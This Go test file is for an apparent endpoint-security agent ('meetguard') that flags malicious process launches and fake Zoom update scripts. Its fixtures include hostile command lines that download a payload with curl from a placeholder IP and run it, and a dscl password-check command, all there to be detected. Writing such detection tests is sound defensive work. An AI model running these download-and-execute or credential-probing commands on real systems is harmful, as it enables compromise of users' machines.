//go:build unix

package agent

import (
	"bytes"
	"context"
	"crypto/sha256"
	"encoding/hex"
	"encoding/json"
	"log/slog"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"meetguard"
	"meetguard/internal/alert"
	"meetguard/internal/config"
	"meetguard/internal/watch"
)

// started is a launch of a program that is not on this machine: it is judged
// by what it was given to do.
func started(pid, ppid int, args ...string) meetguard.Event {
	now := time.Now()
	return meetguard.Event{Time: now, Kind: meetguard.ProcessStarted, Path: args[0],
		Process: &meetguard.Process{OS: systemName, PID: pid, PPID: ppid, Exe: args[0], Args: args, Started: now}}
}

const absent = "/nonexistent/bin/"

func TestArgumentOfALaunchIsInspected(t *testing.T) {
	in := inspector(t, workerArg)
	dir := t.TempDir()
	lure := put(t, filepath.Join(dir, "Zoom SDK Update.scpt"), lureText())
	plain := put(t, filepath.Join(dir, "hello.sh"), []byte("echo hello\n"))
	for name, to := range map[string]string{"tool": plain, "update": lure, "nowhere": filepath.Join(dir, "gone.sh")} {
		if err := os.Symlink(to, filepath.Join(dir, name)); err != nil {
			t.Fatal(err)
		}
	}
	for _, tc := range []struct {
		args  []string
		level meetguard.Level
		count int
	}{
		{[]string{absent + "sh", filepath.Join(dir, "tool")}, meetguard.Clean, 1}, // as /usr/bin/npm is
		{[]string{absent + "osascript", filepath.Join(dir, "update")}, meetguard.Malicious, 1},
		{[]string{absent + "sh", filepath.Join(dir, "nowhere")}, meetguard.Clean, 0},
		{[]string{absent + "bash", "/dev/fd/1"}, meetguard.Clean, 0}, // of that process, not of this one
		{[]string{absent + "osascript", lure}, meetguard.Malicious, 1},
		{[]string{absent + "sh", "-e", plain}, meetguard.Clean, 1},
		{[]string{absent + "sh", filepath.Join(dir, "gone.sh")}, meetguard.Clean, 0},
		{[]string{absent + "cat", lure}, meetguard.Clean, 0},
	} {
		f := in.Launch(context.Background(), started(100, 1, tc.args...).Process)
		if n := countArguments(&f); n != tc.count {
			t.Errorf("%q: %d arguments inspected, want %d", tc.args, n, tc.count)
		}
		f.Gaps = nil // that the interpreter is not here
		if v := in.Judge(f); v.Level != tc.level {
			t.Errorf("%q: %s by %v, want %s", tc.args, v.Level, v.Findings, tc.level)
		}
	}
}

// launchAgent is an agent without sources.
func launchAgent(t *testing.T) *Agent {
	t.Helper()
	log := slog.New(slog.DiscardHandler)
	cfg := config.Config{State: t.TempDir(), Watch: []string{t.TempDir()}}
	a := &Agent{opts: Options{Config: cfg}, log: log, insp: inspector(t, workerArg), second: newSecond(), chains: newChains(), rehearsed: make(chan struct{})}
	var err error
	if a.alerts, err = alert.Open(cfg.State, alert.Options{MaxTotal: 1 << 20, Standalone: true, Logger: log}); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { a.alerts.Close() })
	if a.journal, err = watch.OpenJournal(cfg.State); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { a.journal.Close() })
	if a.files, err = watch.NewFiles(watch.FilesConfig{Roots: func() []string { return cfg.Watch }, Fixed: true}); err != nil {
		t.Fatal(err)
	}
	a.slow = a.launchSideline(nil) // nobody runs it: every launch is judged to its end
	return a
}

func TestOneAlertOfAChain(t *testing.T) {
	a := launchAgent(t)
	for i, step := range []struct {
		ev             meetguard.Event
		alerts, folded uint64
	}{
		{started(200, 1, absent+"sh", "/tmp/.sync.sh"), 1, 0},                                                         // a hidden file: suspicious
		{started(201, 200, absent+"dscl", ".", "-authonly", "ana", "x"), 2, 0},                                        // with what led to it, malicious: told again
		{started(202, 200, absent+"sh", "-c", "curl -sk https://192.0.2.7/a -o /tmp/.b; sh /tmp/.b"), 2, 1},           // no worse: counted
		{started(203, 200, absent+"sh", "-c", "curl -sk https://192.0.2.7/c -o /tmp/.c; sh /tmp/.c"), 2, 2},           // counted
		{started(300, 1, absent+"git", "status"), 2, 2},                                                               // nobody's business
		{started(400, 1, absent+"sh", "-c", "curl -sk https://192.0.2.9/other -o /tmp/.other; sh /tmp/.other"), 3, 2}, // another chain
	} {
		if err := a.judgeLaunch(context.Background(), step.ev); err != nil {
			t.Fatal(err)
		}
		if n, m := a.counts.alerts.Load(), a.counts.folded.Load(); n != step.alerts || m != step.folded {
			t.Errorf("after launch %d: %d alerts and %d folded, want %d and %d", i, n, m, step.alerts, step.folded)
		}
	}
	if n := a.counts.known.Load(); n != 0 {
		t.Errorf("%d alerts taken for repetitions", n)
	}
}

// TestLandingIsTold: of a file that was seen to land, of one that landed before
// the agent was started again, and of one that landed while it did not run.
func TestLandingIsTold(t *testing.T) {
	a := launchAgent(t)
	now := time.Now()
	landed := put(t, filepath.Join(a.opts.Config.Watch[0], "fix.sh"), []byte("echo fix\n"))
	missed := put(t, filepath.Join(a.opts.Config.Watch[0], "missed.sh"), []byte("echo missed\n"))
	elsewhere := put(t, filepath.Join(t.TempDir(), "build.sh"), []byte("echo build\n"))
	id, err := watch.Identify(landed)
	if err != nil {
		t.Fatal(err)
	}
	a.land(meetguard.Event{Path: landed, Time: now.Add(-time.Minute), Source: "inotify"}, id, "files.invalid")
	of := func(script, host string) *meetguard.Facts {
		return &meetguard.Facts{Path: "/bin/sh", Members: []meetguard.Facts{{Path: script, Role: roleArgument, Origin: meetguard.Origin{Host: host}}}}
	}
	if l := a.landing(of(landed, ""), now); l == nil || l.Host != "files.invalid" || l.By != meetguard.LandedSeen {
		t.Errorf("of the script that runs: %+v", l)
	}
	if l := a.landing(of(landed, ""), now.Add(landedSpan)); l != nil {
		t.Errorf("long after: %+v", l)
	}

	if err := os.Chmod(landed, 0o755); err != nil { // as whoever wants to run it does
		t.Fatal(err)
	}
	if err := a.journal.Close(); err != nil {
		t.Fatal(err)
	}
	a.chains = newChains()
	if a.journal, err = watch.OpenJournal(a.opts.Config.State); err != nil {
		t.Fatal(err)
	}
	if l := a.landing(of(landed, "files.invalid"), now); l == nil || l.Host != "files.invalid" || l.By != meetguard.LandedJournal || l.Time.Unix() != now.Add(-time.Minute).Unix() {
		t.Errorf("after a restart: %+v", l)
	}
	for _, swept := range []bool{false, true} {
		if swept { // the listing after the start comes to it
			a.land(meetguard.Event{Path: missed, Time: now, Source: watch.SourceSweep}, id, "files.invalid")
		}
		l := a.landing(of(missed, "files.invalid"), now)
		if l == nil || l.By != meetguard.LandedBirth && l.By != meetguard.LandedChange || now.Sub(l.Time).Abs() > 10*time.Minute || l.Host != "files.invalid" {
			t.Errorf("of a script that nobody saw land, listed %v: %+v", swept, l)
		}
	}
	for _, other := range []string{elsewhere, "/bin/sh", landed + "x"} {
		if l := a.landing(&meetguard.Facts{Path: other}, now); l != nil {
			t.Errorf("of %s, which did not land: %+v", other, l)
		}
	}
}

// TestRehearsalTellsNobody: it loads what the first verdict needs, and leaves
// nothing behind that looks like a lure.
func TestRehearsalTellsNobody(t *testing.T) {
	a := launchAgent(t)
	a.rehearse(context.Background())
	select {
	case <-a.rehearsed:
	default:
		t.Error("nobody is told that it is over")
	}
	if n := a.alerts.Counters().Created; n != 0 || a.counts.alerts.Load() != 0 || len(a.chains.told.values) != 0 {
		t.Errorf("%d alerts, %d chains told", n, len(a.chains.told.values))
	}
	id, err := watch.Identify(systemShell())
	if err != nil {
		t.Fatal(err)
	}
	if _, known := a.insp.facts.byIdentity(id, systemShell(), a.insp.version); !known {
		t.Errorf("%s is not known afterwards", systemShell())
	}
	f := a.insp.Launch(context.Background(), started(500, 1, systemShell(), "-c", rehearsal).Process)
	if v := a.insp.Judge(f); v.Level != meetguard.Malicious {
		t.Errorf("what is rehearsed is no lure: %+v", v)
	}
}

// written reads the alerts that an agent has made.
func written(t *testing.T, a *Agent) []alert.Record {
	t.Helper()
	data, err := os.ReadFile(filepath.Join(a.opts.Config.State, "alerts.jsonl"))
	if err != nil {
		t.Fatal(err)
	}
	var out []alert.Record
	for line := range bytes.Lines(data) {
		var r alert.Record
		if err := json.Unmarshal(line, &r); err != nil {
			t.Fatal(err)
		}
		out = append(out, r)
	}
	return out
}

// TestGuiltyFileIsTold: an alert about an interpreter that was given a lure is
// about the lure; an alert about a command line is about who runs it.
func TestGuiltyFileIsTold(t *testing.T) {
	a := launchAgent(t)
	dir := t.TempDir()
	lure := put(t, filepath.Join(a.opts.Config.Watch[0], "Zoom SDK Update.scpt"), lureText())
	plain := put(t, filepath.Join(dir, "hello.sh"), []byte("echo hello\n"))
	shell := systemShell()
	osascript := put(t, filepath.Join(dir, "osascript"), []byte("a program that runs AppleScript\n"))
	cases := []struct {
		args                []string
		path, format, title string
	}{
		{[]string{osascript, lure}, lure, "script", "Fake Zoom script: "},
		{[]string{shell, plain}, "", "", ""},
		{[]string{shell, "-c", rehearsal}, shell, "", "Malicious "},
	}
	told := 0
	for i, tc := range cases {
		if err := a.judgeLaunch(context.Background(), started(600+i, 1, tc.args...)); err != nil {
			t.Fatal(err)
		}
		got := written(t, a)[told:]
		if told += len(got); tc.path == "" {
			if len(got) > 0 {
				t.Errorf("%q: %s", tc.args, got[0].Message)
			}
			continue
		}
		if len(got) != 1 {
			t.Fatalf("%q: %d alerts", tc.args, len(got))
		}
		r := got[0]
		sum := sha256.Sum256(read(t, tc.path))
		if r.Unmapped.Path != tc.path || r.Unmapped.SHA256 != hex.EncodeToString(sum[:]) || r.Unmapped.Inner != "" ||
			tc.format != "" && r.Unmapped.Format != tc.format || !strings.HasPrefix(r.Message, tc.title) {
			t.Errorf("%q: %q about %s (%s, inside %q)", tc.args, r.Message, r.Unmapped.Path, r.Unmapped.Format, r.Unmapped.Inner)
		}
		if p := r.Evidences[0].Process; p == nil || p.File == nil || p.File.Path != tc.args[0] || r.Evidences[0].File.Path != tc.path {
			t.Errorf("%q: the evidence is %+v", tc.args, r.Evidences[0])
		}
		if landed := strings.Contains(r.Unmapped.Landed, ", not seen: the "); landed != (tc.path == lure) {
			t.Errorf("%q: landed %q", tc.args, r.Unmapped.Landed)
		}
		if len(r.Unmapped.Story) == 0 || !strings.Contains(r.Unmapped.Story[len(r.Unmapped.Story)-1], tc.args[0]) {
			t.Errorf("%q: the story %q lacks the interpreter", tc.args, r.Unmapped.Story)
		}
	}
}

func read(t *testing.T, path string) []byte {
	t.Helper()
	data, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	return data
}

func TestFullQueueIsTold(t *testing.T) {
	a := &Agent{queue: make(chan *meetguard.Event, 1)}
	for i, want := range []error{nil, watch.ErrBusy, watch.ErrBusy} {
		if err := a.launchEvent(context.Background(), started(700+i, 1, absent+"sh")); err != want {
			t.Errorf("launch %d: %v, want %v", i, err, want)
		}
	}
	if n := a.counts.launches.Load(); n != 1 {
		t.Errorf("%d launches taken, want 1", n)
	}
}

// A storm of launches with arguments as long as they may be must not fill the
// memory, and what was judged makes room again.
func TestQueueIsBoundedInBytes(t *testing.T) {
	a := &Agent{queue: make(chan *meetguard.Event, launchQueue)}
	long := strings.Repeat("x", 32<<10)
	taken := 0
	for n := range launchQueue {
		ev := started(700+n, 1, absent+"sh")
		ev.Process.Args = []string{"sh", long}
		if err := a.launchEvent(context.Background(), ev); err == nil {
			taken++
		} else if err != watch.ErrBusy {
			t.Fatal(err)
		}
	}
	if taken < launchQueueBytes/(33<<10) || taken > launchQueueBytes/len(long) {
		t.Errorf("%d launches of %d bytes were taken", taken, len(long))
	}
	if err := a.launchEvent(context.Background(), started(1, 1, absent+"sh")); err != nil {
		t.Errorf("there is no room for a short one: %v", err)
	}
}

func TestStoryIsJudgedWithoutRepeats(t *testing.T) {
	run := func(pid, ppid int, exe string, more ...meetguard.Deed) meetguard.Step {
		return meetguard.Step{PID: pid, PPID: ppid, Exe: exe, Link: meetguard.LinkTree, Deeds: append([]meetguard.Deed{{Kind: meetguard.DeedRun, File: exe, What: "program"}}, more...)}
	}
	fetch := meetguard.Deed{Kind: meetguard.DeedFetch, Host: "files.invalid"}
	story := []meetguard.Step{run(1, 9, "/bin/cc"), run(2, 9, "/bin/curl", fetch), run(3, 9, "/bin/cc"), run(4, 8, "/bin/cc"), run(5, 9, "/bin/curl", fetch), run(6, 9, "/bin/cc")}
	var kept []int
	for _, s := range withoutRepeats(meetguard.Facts{Story: story}).Story {
		kept = append(kept, s.PID)
	}
	if want := []int{2, 4, 5, 6}; !slices.Equal(kept, want) || len(story) != 6 || story[0].PID != 1 {
		t.Errorf("launches %v are judged, want %v; the story is %v", kept, want, story)
	}
}
